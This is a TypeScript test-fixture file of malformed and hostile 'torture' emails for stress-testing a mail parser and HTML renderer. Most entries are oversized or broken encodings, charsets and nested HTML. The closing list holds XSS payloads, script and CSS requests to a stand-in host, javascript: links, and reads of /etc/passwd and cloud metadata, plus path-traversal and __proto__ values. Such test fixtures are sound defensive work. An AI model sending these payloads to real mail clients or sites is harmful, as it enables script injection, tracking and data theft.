import { htmlMail, times, type Torture, tortureMailsOf, utf8 } from './torture-mail.ts';

const plain = (
  charset: string,
  encoding: string,
  body: () => string | Buffer,
  more = '',
): Pick<Torture, 'fields' | 'body'> => ({
  fields: () => `Content-Type: text/plain; charset=${charset}${more}\r\nContent-Transfer-Encoding: ${encoding}\r\n`,
  body,
});

const tortures: Record<string, Torture> = {
  'line-of-60-MB': {
    about: 'a text of 60 MB without any line end',
    ...plain('utf-8', '8bit', () => Buffer.alloc(60_000_000, 'x')),
  },
  'lines-of-nothing': {
    about: '20 MB of empty lines',
    ...plain('utf-8', '8bit', () => Buffer.alloc(20_000_000, '\r\n')),
  },
  'base64-garbage': {
    about: '30 MB of characters that no base64 has',
    ...plain('utf-8', 'base64', () => '!@#$%^&*()~`\u00ff\u0000=\r\n'.repeat(1_600_000)),
  },
  'base64-of-nothing': { about: '20 MB of padding', ...plain('utf-8', 'base64', () => Buffer.alloc(20_000_000, '=')) },
  'quoted-printable-garbage': {
    about: '20 MB of equals signs and broken codes',
    ...plain('utf-8', 'quoted-printable', () => '==\u0000=G1=1=\r\n=\r'.repeat(1_400_000)),
  },
  'charset-of-64-kB': {
    about: 'a charset whose name has 64 kB',
    ...plain('x'.repeat(65_536), '8bit', () => 'caf\u00e9\r\n'),
  },
  'charset-a-path': {
    about: 'a charset that is a path, and one that is a property of every object',
    ...plain('"../../../etc/passwd"', '8bit', () => 'caf\u00e9\r\n', '; format=__proto__; constructor=toString'),
  },
  'charset-escapes': {
    about: '5 MB of escape sequences of ISO-2022-JP that change nothing',
    ...plain('iso-2022-jp', '8bit', () => '\u001b$B\u001b(B\u001b(J\u001b$@'.repeat(420_000)),
  },
  'charset-utf-7': { about: '4 MB of shifts of UTF-7', ...plain('utf-7', '8bit', () => '+AGE-+-+'.repeat(500_000)) },
  'charset-utf-16-odd': {
    about: 'UTF-16 of an odd length, of halves of pairs',
    ...plain('utf-16le', 'base64', () => Buffer.alloc(3_000_001, Buffer.from([0x00, 0xd8])).toString('base64')),
  },
  'charset-utf-32': {
    about: 'UTF-32 of what no plane has',
    ...plain('utf-32', 'base64', () => Buffer.alloc(2_000_000, 0xff).toString('base64')),
  },
  'charset-lies': {
    about: 'every byte, 20,000 times, as Japanese, Chinese and Korean',
    ...plain('shift_jis', '8bit', () => Buffer.alloc(5_120_000, Buffer.from(Array.from({ length: 256 }, (_, n) => n)))),
  },
  'flowed-without-end': {
    about: 'a million lines of flowed text that are one paragraph',
    ...plain('utf-8', '8bit', () => 'woord \r\n'.repeat(1_000_000), '; format=flowed; delsp=yes'),
  },
  'flowed-depths': {
    about: 'flowed text whose depth of quotation grows with each line',
    ...plain('utf-8', '8bit', () => times(3_000, (n) => `${'>'.repeat(n)} x \r\n`), '; format=flowed'),
  },
  'uuencode-beginnings': {
    about: '200,000 beginnings of uuencode and no end',
    ...plain('us-ascii', '7bit', () => times(200_000, (n) => `begin 644 bestand${n}.bin\r\n`)),
  },
  'uuencode-liar': {
    about: 'uuencode whose lines are shorter and longer than they say, 10 MB without an end',
    ...plain('us-ascii', '7bit', () => `begin 644 ../../leugen.exe\r\n${'M\r\n\u0060x\r\n_'.repeat(1_000_000)}`),
  },
  'uuencode-many': {
    about: '50,000 small files in uuencode',
    ...plain('us-ascii', '7bit', () => times(50_000, (n) => `begin 644 ${n}.txt\r\n#86)C\r\n\u0060\r\nend\r\n`)),
  },
  'html-of-angles': { about: '100,000 angles', ...htmlMail(() => '<'.repeat(100_000)) },
  'html-of-unended-tags': {
    about: '200,000 tags that are not closed, within quotes that are not',
    ...htmlMail(() => '<a href="'.repeat(200_000)),
  },
  'html-nested': { about: 'elements 200,000 deep', ...htmlMail(() => '<div><b>'.repeat(100_000)) },
  'html-nested-tables': { about: '2 MB of tables in tables', ...htmlMail(() => '<table><tr><td>'.repeat(140_000)) },
  'html-closing-only': {
    about: '400,000 ends of what never began',
    ...htmlMail(() => '</p></table></a>'.repeat(130_000)),
  },
  'html-attributes': {
    about: 'an element with 200,000 attributes',
    ...htmlMail(() => `<p ${times(200_000, (n) => `a${n}=${n} `)}>x</p>`),
  },
  'html-entities': {
    about: '2 MB of entities, nested and unended',
    ...htmlMail(() => '&amp;lt;&#x110000;&#0;&#99999999999;&notit;&'.repeat(50_000)),
  },
  'html-comments': {
    about: '500,000 beginnings of comments and of what browsers read as such',
    ...htmlMail(() => '<!--<![CDATA[<?<!'.repeat(125_000)),
  },
  'html-deep-css': {
    about: 'style in 1 MB of brackets, and a style attribute of 1 MB',
    ...htmlMail(() => `<style>${'a{'.repeat(500_000)}</style><p style="${'color:red;'.repeat(100_000)}">x</p>`),
  },
  'html-links': {
    about: '100,000 links',
    ...htmlMail(() => times(100_000, (n) => `<a href="https://marteling.example/${n}">x</a>`)),
  },
  'html-data-uri': {
    about: 'a picture of 12 MB in the HTML itself',
    ...htmlMail(() => `<p>x</p><img src="data:image/png;base64,${'A'.repeat(12_000_000)}">`),
  },
  'html-leaves': {
    about: 'everything by which HTML runs, loads or leaves',
    ...htmlMail(() => utf8(LEAVING.join('\n'))),
  },
};

/** Each would show itself by a request to `marteling.example` or by running. */
const LEAVING = [
  '<p id="heel">heel</p>',
  '<meta http-equiv="refresh" content="0;url=http://marteling.example/refresh">',
  '<base href="http://marteling.example/">',
  '<link rel="stylesheet" href="http://marteling.example/css"><link rel="prefetch" href="http://marteling.example/prefetch">',
  '<style>@import "http://marteling.example/import"; @font-face{font-family:x;src:url(http://marteling.example/font)} input[value^=a]{background:url(http://marteling.example/leak?a)} body{background:url(http://marteling.example/bg)}</style>',
  '<p style="background:url(http://marteling.example/style);list-style:url(http://marteling.example/list);width:expression(alert(1));behavior:url(x)">stijl</p>',
  '<script src="http://marteling.example/script"></script><script>fetch("http://marteling.example/fetch")</script>',
  '<img src="http://marteling.example/img" srcset="http://marteling.example/srcset 2x" onerror="fetch(\'http://marteling.example/onerror\')">',
  '<img src=x onerror=alert(1)><svg onload=alert(1)><a xlink:href="javascript:alert(1)"><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="http://marteling.example/iframe"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="http://marteling.example/object"></object><embed src="http://marteling.example/embed">',
  '<a href="javascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="java\tscript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a><a href="file:///etc/passwd">x</a>',
  '<form action="http://marteling.example/form"><input name=a value=b autofocus onfocus=alert(1)><button formaction="http://marteling.example/formaction">x</button></form>',
  '<video poster="http://marteling.example/poster"><source src="http://marteling.example/source"></video><audio src="http://marteling.example/audio" autoplay></audio>',
  '<body background="http://marteling.example/background" onload=alert(1)><table background="http://marteling.example/table"><tr><td>x</td></tr></table>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">bedekt alles</div>',
  '<img src="cid:../../etc/passwd"><img src="file:///etc/passwd"><img src="http://169.254.169.254/latest/meta-data/"><img src="\\\\marteling.example\\deel">',
];

export const textTortures = tortureMailsOf(tortures);
